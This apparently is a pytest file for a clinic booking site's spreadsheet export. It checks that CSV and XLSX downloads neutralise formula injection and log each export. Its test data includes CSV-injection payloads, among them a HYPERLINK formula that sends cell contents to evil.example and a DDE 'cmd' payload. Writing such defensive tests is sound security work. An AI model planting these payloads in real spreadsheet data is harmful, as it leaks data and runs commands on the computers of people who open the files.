"""A table of requests: for managers, of what is filtered, logged, and never a formula."""

import csv
import io
import re
from datetime import datetime

import pytest
from bs4 import BeautifulSoup
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.hooks import search_for_hooks
from wagtail.models import ModelLogEntry

from clinic_pages.booking.desk.export import COLUMNS
from clinic_pages.booking.models import BookingRequest
from clinic_pages.lib.spreadsheets import NEUTRAL, as_text
from tests.booking.reception import (
    DESK,
    EMAIL,
    NAME,
    NOTE,
    agree,
    make_request,
    make_user,
    next_monday,
)

# Read in portions, with a cursor on the server.
pytestmark = pytest.mark.postgres

Status = BookingRequest.Status
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tx",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    "−1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
]
# Where a program splits the file at semicolons or tabs, and takes no quote for one.
INSIDE = [
    "sent; =1+1",
    "sent;=1+1",
    "sent\t=1+1",
    "sent\n=1+1",
    "sent\r\n=1+1",
    "sent;;\u200b＝1+1",
    'sent;"=1+1"',
    'sent;" ""=1+1"',
    "sent;\x00@SUM(A1);-1",
    "=1;=1",
]
SIGNS = tuple("=+-@＝＋－＠﹦−")
HARMLESS = [
    *("Róisín", "a=1", "1+1", "o'dea", "085 765 4321", "#N/A", "TRUE", "<b>", '"quoted", yes'),
    *("first; then a=1", "one\ntwo", "one\ttwo", "yes, -5 degrees", 'she said "no"; and "yes"'),
]


@pytest.fixture
def manager(client, tree):
    client.force_login(make_user("Clinic manager", "mia"))
    return client


def download(client, kind, query="") -> bytes:
    response = client.get(f"{DESK}?export={kind}{query}")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    name = f"booking-requests-{timezone.localdate()}.{kind}"
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    return b"".join(response.streaming_content)


def csv_rows(client, query="") -> list[list[str]]:
    text = download(client, "csv", query).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_cells(client, query="") -> list[list]:
    workbook = load_workbook(io.BytesIO(download(client, "xlsx", query)))
    return [list(row) for row in workbook.active.iter_rows()]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_calculate_is_text(text):
    shown = as_text(text)
    assert shown.startswith("'")
    assert not set(shown) & set("\x00\x1b")


def cells_of_other_programs(line: str) -> list[str]:
    """As a program that splits at semicolons or at tabs sees them. What it does not see is left
    out: spaces, and two quotes for none."""
    return [re.sub(r'^[\s\u200b"]*', "", each) for each in re.split(r"[;\t\r\n]", line)]


@pytest.mark.parametrize("text", [*FORMULAS, *INSIDE])
def test_nor_where_a_program_splits_it_otherwise(manager, tree, text):
    # Through the export: what the writer puts around a text is a part of what is seen.
    therapy = tree.therapy(title="Cupping")
    make_request(tree, name=f"x{text}", note=text, email="", therapy=therapy)
    whole = download(manager, "csv").decode("utf-8-sig")
    assert not [c for c in cells_of_other_programs(whole) if c[:1] in SIGNS]


@pytest.mark.parametrize("text", INSIDE)
def test_all_of_it_is_text(text):
    assert not [
        c for c in cells_of_other_programs(as_text(text)) if c[:1] in tuple("=+-@＝＋－＠﹦−")
    ]


def test_every_export_of_ours_is_neutral():
    """Of whatever app of this project, by Wagtail's way: they say so, or write their own."""

    def below(view: type) -> set[type]:
        return {view}.union(*(below(each) for each in view.__subclasses__()))

    search_for_hooks()
    ours = {
        view
        for view in below(SpreadsheetExportMixin)
        if view.__module__.split(".")[0] in ("clinic_pages", "home", "search") and view.list_export
    }
    assert len(ours) >= 4
    for view in ours:
        assert view.custom_value_preprocess is NEUTRAL, view


@pytest.mark.parametrize("text", ["", *HARMLESS])
def test_other_texts_stay_as_they_are(text):
    assert as_text(text) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(manager, tree, text):
    therapy = tree.therapy(title=text.strip("\x00\x1b") + "x")
    make_request(tree, name=text, note=text, email="", therapy=therapy)
    for row in csv_rows(manager)[1:]:
        assert not [cell for cell in row if cell[:1] in tuple("=+-@\t\r\n＝＋－＠")]
    for row in xlsx_cells(manager)[1:]:
        assert not [cell for cell in row if cell.data_type == "f"]
        texts = [cell.value for cell in row if isinstance(cell.value, str)]
        assert not [value for value in texts if value[:1] in tuple("=+-@\t\r\n＝＋－＠")]


def test_both_files_say_what_the_desk_shows(manager, tree):
    request = make_request(tree, therapy=tree.therapy(), is_returning=True)
    agree(manager, request, next_monday(14, 30))
    titles, row = csv_rows(manager)
    assert titles == [str(column.heading) for column in COLUMNS]
    cells = dict(zip(titles, row, strict=True))
    assert cells["Reference"] == request.reference
    assert (cells["Name"], cells["E-mail"], cells["Note of the patient"]) == (NAME, EMAIL, NOTE)
    assert cells["Telephone"] == "085 765 4321"
    assert cells["Times that suit"] == "Monday, Wednesday"
    assert cells["Appointment"] == f"{next_monday(14, 30):%Y-%m-%d %H:%M:%S}"
    headings, values = xlsx_cells(manager)
    assert [cell.value for cell in headings] == titles
    found = {title: cell.value for title, cell in zip(titles, values, strict=True)}
    assert found["Name"] == NAME
    assert found["Appointment"] == next_monday(14, 30).replace(tzinfo=None)
    assert isinstance(found["Received"], datetime)


def test_an_extension_is_exported(manager, tree):
    make_request(tree, phone="+35315550123;ext=12")
    titles, row = csv_rows(manager)
    cells = dict(zip(titles, row, strict=True))
    assert cells["Telephone"] == "(01) 555 0123 ext. 12"


def test_a_number_from_abroad_is_text_in_both_files(manager, tree):
    """One that begins with a plus could be calculated; no apostrophe is dialled along."""
    make_request(tree, phone="+4930123456")
    column = [str(each.heading) for each in COLUMNS].index("Telephone")
    assert csv_rows(manager)[1][column] == "00 49 30 123456"
    cell = xlsx_cells(manager)[1][column]
    assert (cell.value, cell.data_type, cell.number_format) == ("+49 30 123456", "s", "@")


def test_what_is_filtered_and_found_is_exported(manager, tree):
    make_request(tree, name="Ann Open")
    make_request(tree, name="Ann Closed", status=Status.DECLINED)
    make_request(tree, name="Bob Open")
    found = manager.post(f"{DESK}?status=open", {"typed": "ann"})["Location"]
    page = BeautifulSoup(manager.get(found).content, "html.parser")
    link = next(a for a in page.select("a") if a.get_text(strip=True) == "Download CSV")
    rows = csv_rows(manager, "&" + link["href"].partition("?")[2])
    assert [row[4] for row in rows[1:]] == ["Ann Open"]


def test_more_than_a_page_and_a_chunk_is_exported(manager, tree, monkeypatch):
    monkeypatch.setattr("clinic_pages.booking.desk.export.CHUNK", 10)
    for number in range(25):
        make_request(tree, name=f"Ann {number}")
    assert len(csv_rows(manager)) == 26


def test_each_export_is_in_the_log_of_each_request(manager, tree):
    requests = [make_request(tree), make_request(tree)]
    make_request(tree, status=Status.SPAM)
    download(manager, "xlsx", "&status=open")
    entries = ModelLogEntry.objects.filter(action="clinic_booking.export_booking")
    assert {entry.label for entry in entries} == {each.reference for each in requests}
    assert {entry.user.username for entry in entries} == {"mia"}
    assert len({entry.uuid for entry in entries}) == 1 and not [e for e in entries if e.data]
    assert "Exported it" in manager.get(f"{DESK}inspect/{requests[0].pk}/").content.decode()


def test_an_export_costs_the_same_for_many(manager, tree, django_assert_max_num_queries):
    for _number in range(30):
        make_request(tree)
    with django_assert_max_num_queries(14):
        download(manager, "csv")
